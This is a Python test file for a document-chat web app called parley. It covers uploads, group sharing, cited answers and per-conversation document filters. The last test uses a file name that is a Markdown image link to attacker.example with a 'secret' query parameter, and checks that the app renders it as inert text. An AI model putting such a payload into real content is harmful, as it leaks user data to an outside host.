"""The documents, groups and chat pages with documents: upload with progress, sharing,
groups, and an answer's citations opening the passage they cite."""

from __future__ import annotations

from streamlit.testing.v1 import AppTest

from parley.core.config import get_settings
from parley.fakes.anthropic_server import Cited, FakeAnthropic, Reply
from parley.wiring.services import build_services
from tests.app_pages.support import add_user, app, log_in, page_text

POLICY = b"# Refunds\nRefunds are paid within 30 days of the request, by bank transfer."


def upload(at: AppTest, *files: tuple[str, bytes]) -> None:
    at.switch_page("parley/app_pages/documents.py").run()
    at.file_uploader[0].set_value([(name, data, "text/plain") for name, data in files])
    next(b for b in at.button if b.label == "Add").click().run()
    assert not at.exception


def test_upload_lists_the_document_and_a_bad_file_gets_a_sentence() -> None:
    add_user("alice", "alice-password")
    at = app()
    log_in(at, "alice", "alice-password")
    upload(at, ("policy.md", POLICY), ("empty.txt", b"   "))
    text = page_text(at)
    assert "empty.txt" in "\n".join(e.value for e in at.error)  # its own sentence
    table = at.dataframe[0].value
    assert list(table["name"]) == ["policy.md"]  # the good file went in all the same
    assert list(table["who may read it"]) == ["only the owner"]
    assert "Traceback" not in text


def test_the_uploader_announces_parleys_own_size_limit() -> None:
    from parley.retrieval.documents import MAX_FILE_BYTES

    add_user("alice", "alice-password")
    at = app()
    log_in(at, "alice", "alice-password")
    at.switch_page("parley/app_pages/documents.py").run()
    uploader = at.file_uploader[0]
    assert uploader.proto.max_upload_size_mb * 2**20 == MAX_FILE_BYTES  # not Streamlit's 200
    assert f"up to {MAX_FILE_BYTES // 2**20} MB" in uploader.help


def test_other_users_see_nothing_until_it_is_shared_with_their_group() -> None:
    add_user("root", "root-password", admin=True)
    add_user("alice", "alice-password")
    add_user("bob", "bob-password")
    alice = app()
    log_in(alice, "alice", "alice-password")
    upload(alice, ("policy.md", POLICY))
    bob = app()
    log_in(bob, "bob", "bob-password")
    bob.switch_page("parley/app_pages/documents.py").run()
    assert "No documents yet." in page_text(bob)
    bob.text_input[0].input("refunds paid").run()
    assert "Nothing you may read matches." in page_text(bob)

    admin = app()
    log_in(admin, "root", "root-password")
    admin.switch_page("parley/app_pages/admin_groups.py").run()
    admin.text_input[0].input("finance")
    next(b for b in admin.button if b.label == "Create group").click().run()
    for name in ("alice", "bob"):  # a user shares with the groups they are in
        admin.selectbox(key="member-user").select(name).run()
        next(b for b in admin.button if b.label.startswith(f"Add {name}")).click().run()
    assert list(admin.dataframe[0].value["members"]) == ["alice, bob"]

    alice.switch_page("parley/app_pages/documents.py").run()
    alice.selectbox(key="share-group").select("finance").run()
    next(b for b in alice.button if b.label == "Share with finance").click().run()
    assert list(alice.dataframe[0].value["who may read it"]) == ["groups: finance"]
    bob.run()
    assert list(bob.dataframe[0].value["name"]) == ["policy.md"]


def test_a_cited_answer_shows_its_source_and_opens_the_passage(
    claude_env: FakeAnthropic,
) -> None:
    add_user("alice", "alice-password")
    at = app()
    log_in(at, "alice", "alice-password")
    upload(at, ("policy.md", POLICY))
    claude_env.enqueue(
        Reply(segments=["Refunds take ", Cited("30 days", source=0), "."]),
    )
    at.switch_page("parley/app_pages/chat.py").run()
    at.chat_input[0].set_value("How long do refunds take?").run()
    assert not at.exception
    answer = at.chat_message[1]
    assert answer.markdown[0].value == "Refunds take 30 days [1]."
    (source,) = answer.expander
    assert source.label.replace("\\", "") == "[1] policy.md"  # escaped as Markdown
    assert "within 30 days" in source.text[0].value
    request = claude_env.requests[-1].body
    assert request["messages"][-1]["content"][0]["type"] == "search_result"
    # The page's conversation was asked with the document; the record says so.
    services = build_services(get_settings())
    alice = services.accounts.authenticate(name="alice", password="alice-password")
    assert alice is not None
    (conversation,) = services.conversations.list_for(alice)
    stored = services.conversations.messages(alice, conversation.id)[-1]
    assert stored.citations[0].name == "policy.md"


def test_the_sidebar_narrows_a_conversation_to_chosen_documents(
    claude_env: FakeAnthropic,
) -> None:
    add_user("alice", "alice-password")
    at = app()
    log_in(at, "alice", "alice-password")
    upload(at, ("policy.md", POLICY), ("menu.md", b"# Menu\nSoup on Fridays, fish on Mondays."))
    services = build_services(get_settings())
    alice = services.accounts.authenticate(name="alice", password="alice-password")
    assert alice is not None
    menu_id = next(d.id for d in services.documents.list_for(alice) if d.name == "menu.md")
    at.switch_page("parley/app_pages/chat.py").run()
    at.multiselect(key="documents-new").select(menu_id).run()  # a new conversation: the menu
    at.chat_input[0].set_value("When are refunds paid and what is on Friday?").run()
    assert not at.exception
    sent = claude_env.requests[-1].body["messages"][-1]["content"]
    titles = [b["title"] for b in sent if b["type"] == "search_result"]
    assert titles == ["menu.md, Menu"]  # the policy was not asked about
    (conversation,) = services.conversations.list_for(alice)
    assert services.conversations.documents_of(alice, conversation.id) == [menu_id]
    at.multiselect(key=f"documents-{conversation.id}").unselect(menu_id).run()
    assert services.conversations.documents_of(alice, conversation.id) is None  # all again


def test_a_file_named_as_markdown_gets_its_sentence_as_text() -> None:
    add_user("alice", "alice-password")
    at = app()
    log_in(at, "alice", "alice-password")
    upload(at, ("![x](https://attacker.example/?d=secret) notes.md", b"   "))
    (error,) = [e.value for e in at.error]  # the sentence names the file: never an image
    assert "![x]" not in error and "image not loaded: x" in error and "notes.md" in error
